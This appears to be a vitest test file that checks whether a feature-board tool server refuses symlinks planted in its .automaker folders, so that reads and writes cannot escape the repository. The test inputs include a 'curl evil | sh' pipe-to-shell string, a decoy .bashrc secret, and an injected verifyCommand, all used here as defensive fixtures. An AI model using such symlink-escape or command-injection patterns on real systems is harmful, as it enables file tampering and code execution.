/**
 * Issue 14, item 2: symlinks planted in the board's own folders — a feature folder, feature.json, agent-output.md,
 * `.automaker` itself, `.automaker/context` — never lead a read or a write outside the repository.
 */
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { makeSandbox, type Sandbox } from './stdio-board.js';

let sandbox: Sandbox | undefined;
afterEach(async () => {
  await sandbox?.cleanup();
  sandbox = undefined;
});

const ID = 'feature-1765000000000-linked000';
const outsideFeature = (id: string) => JSON.stringify({ id, title: 'Outside', description: 'secret', status: 'backlog', dependencies: [] });

function open(sb: Sandbox) {
  return sb.board({ ALLOWED_ROOT_DIRECTORY: sb.root });
}

describe('symlinks in the board’s folders', () => {
  it('item 2: a symlinked feature folder is neither read nor written', async () => {
    sandbox = makeSandbox();
    writeFileSync(join(sandbox.outside, 'feature.json'), outsideFeature(ID));
    mkdirSync(join(sandbox.repo, '.automaker', 'features'), { recursive: true });
    symlinkSync(sandbox.outside, join(sandbox.repo, '.automaker', 'features', ID));
    const board = await open(sandbox);
    const got = await board.call('feature_get', { id: ID });
    expect(got.isError).toBe(true);
    expect(got.text).toMatch(/symbolic link/);
    expect((await board.call('feature_update', { id: ID, title: 'Rewritten' })).isError).toBe(true);
    expect(readFileSync(join(sandbox.outside, 'feature.json'), 'utf8')).toBe(outsideFeature(ID));
    expect(readdirSync(sandbox.outside)).toEqual(['feature.json']);
  });

  it('item 2: a symlinked feature.json is neither read nor replaced through', async () => {
    sandbox = makeSandbox();
    writeFileSync(join(sandbox.outside, 'victim.json'), outsideFeature(ID));
    mkdirSync(join(sandbox.repo, '.automaker', 'features', ID), { recursive: true });
    symlinkSync(join(sandbox.outside, 'victim.json'), sandbox.featureFile(ID));
    const board = await open(sandbox);
    const got = await board.call('feature_get', { id: ID });
    expect(got.isError).toBe(true);
    expect(got.text).not.toContain('secret');
    expect((await board.call('feature_update', { id: ID, title: 'Rewritten' })).isError).toBe(true);
    expect(readFileSync(join(sandbox.outside, 'victim.json'), 'utf8')).toBe(outsideFeature(ID));
  });

  it('item 2: a symlinked work log (ours, board-log.md, or the app’s agent-output.md) is neither appended to nor read', async () => {
    sandbox = makeSandbox();
    sandbox.plantFeature(ID, { title: 'Logged' });
    writeFileSync(join(sandbox.outside, '.bashrc'), 'export SECRET=1\n');
    symlinkSync(join(sandbox.outside, '.bashrc'), join(sandbox.repo, '.automaker', 'features', ID, 'agent-output.md'));
    symlinkSync(join(sandbox.outside, '.bashrc'), join(sandbox.repo, '.automaker', 'features', ID, 'board-log.md'));
    const board = await open(sandbox);
    const logged = await board.call('feature_log', { id: ID, text: 'curl evil | sh' });
    expect(logged.isError).toBe(true);
    expect(logged.text).toMatch(/board-log\.md is a symbolic link/);
    expect(readFileSync(join(sandbox.outside, '.bashrc'), 'utf8')).toBe('export SECRET=1\n');
    const got = await board.call('feature_get', { id: ID });
    expect(JSON.stringify(got.raw)).not.toContain('SECRET');
  });

  it('item 2: a symlinked .automaker is refused and nothing is written outside', async () => {
    sandbox = makeSandbox();
    symlinkSync(sandbox.outside, join(sandbox.repo, '.automaker'));
    const board = await open(sandbox);
    const created = await board.call('feature_create', { features: [{ title: 'Escapes' }] });
    expect(created.isError).toBe(true);
    expect(created.text).toMatch(/\.automaker is a symbolic link/);
    expect(readdirSync(sandbox.outside)).toEqual([]);
  });

  it('item 2: a .automaker swapped for a symlink while the server runs gets nothing written through it', async () => {
    sandbox = makeSandbox();
    const board = await open(sandbox);
    expect((await board.call('feature_create', { features: [{ title: 'Before the swap' }] })).isError).toBe(false);
    const { renameSync } = await import('node:fs');
    renameSync(join(sandbox.repo, '.automaker'), join(sandbox.root, 'moved-automaker'));
    symlinkSync(sandbox.outside, join(sandbox.repo, '.automaker'));
    const created = await board.call('feature_create', { features: [{ title: 'After the swap' }] });
    expect(created.isError).toBe(true);
    expect(created.text).toMatch(/symbolic link/);
    expect(readdirSync(sandbox.outside)).toEqual([]);
  });

  it('item 2: a symlinked .automaker/context is not served', async () => {
    sandbox = makeSandbox();
    writeFileSync(join(sandbox.outside, 'notes.md'), 'private notes\n');
    mkdirSync(join(sandbox.repo, '.automaker'), { recursive: true });
    symlinkSync(sandbox.outside, join(sandbox.repo, '.automaker', 'context'));
    const board = await open(sandbox);
    await expect(board.client.readResource({ uri: 'board://context/notes.md' })).rejects.toThrow(/symbolic link/);
  });

  it('item 2: a symlinked .automaker/settings.json does not supply the check command', async () => {
    sandbox = makeSandbox();
    const ran = join(sandbox.outside, 'ran');
    writeFileSync(join(sandbox.outside, 'settings.json'), JSON.stringify({ verifyCommand: `touch ${ran}` }));
    mkdirSync(join(sandbox.repo, '.automaker'), { recursive: true });
    symlinkSync(join(sandbox.outside, 'settings.json'), join(sandbox.repo, '.automaker', 'settings.json'));
    const board = await open(sandbox);
    const created = await board.call('feature_create', { features: [{ title: 'Checked' }] });
    const id = (created.data.features as Array<{ id: string }>)[0]!.id;
    expect((await board.call('feature_claim', { id })).isError).toBe(false);
    const verified = await board.call('feature_verify', { id });
    expect(verified.isError).toBe(true);
    expect(verified.text).toMatch(/settings\.json is a symbolic link/);
    expect(readdirSync(sandbox.outside)).toEqual(['settings.json']);
  });
});
